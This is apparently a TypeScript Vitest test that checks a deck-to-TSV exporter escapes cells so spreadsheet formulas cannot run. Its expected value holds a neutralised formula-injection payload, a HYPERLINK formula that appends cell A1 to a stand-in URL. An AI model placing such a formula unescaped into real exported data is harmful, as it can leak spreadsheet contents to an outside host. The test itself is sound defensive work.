import { describe, expect, it } from 'vitest';
import { parseDeck } from '../../../src/shared/decks/parse';
import { exportTsv, parseRecords, readHeader } from '../../../src/shared/exchange/delimited';
import { hostileText } from '../../fixtures/hostile';

describe('TSV export and spreadsheets', () => {
  it('starts no cell with =, +, - or @, so nothing runs as a formula', () => {
    const { deck, problems } = parseDeck(hostileText('formula-deck.yaml'), 'formula.yaml');
    expect(problems).toEqual([]);
    const [row] = parseRecords(readHeader(exportTsv([deck!])).body, '\t');
    expect(row.every((cell) => !/^[=+\-@]/.test(cell))).toBe(true);
    expect(row[3]).toBe(`'=HYPERLINK("http://example.invalid/?"&A1,"clic")`);
  });
});
